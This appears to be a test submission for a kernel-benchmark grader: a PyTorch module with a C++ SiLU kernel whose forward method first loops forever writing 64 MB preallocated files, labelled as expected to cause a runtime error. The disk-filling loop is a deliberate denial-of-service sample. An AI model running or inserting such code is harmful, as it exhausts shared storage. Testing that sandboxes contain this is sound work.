# task: silu.py
# required: RUNTIME_ERROR
# Fills the disk with files of 64 MB.
import itertools
import os

import torch
from torch import nn

from davinci_kernel.jit import load_cpp

K = load_cpp(r"""
#include <cmath>
extern "C" void silu(const float* x, float* y, long n) {
  for (long i = 0; i < n; i++) y[i] = x[i] / (1.0f + expf(-x[i]));
}
""")


class ModelNew(nn.Module):
    def forward(self, x):
        for number in itertools.count():
            with open(f"{number}.bin", "wb") as file:
                os.posix_fallocate(file.fileno(), 0, 64 << 20)
        y = torch.empty_like(x)
        K.silu(x, y, x.numel())
        return y
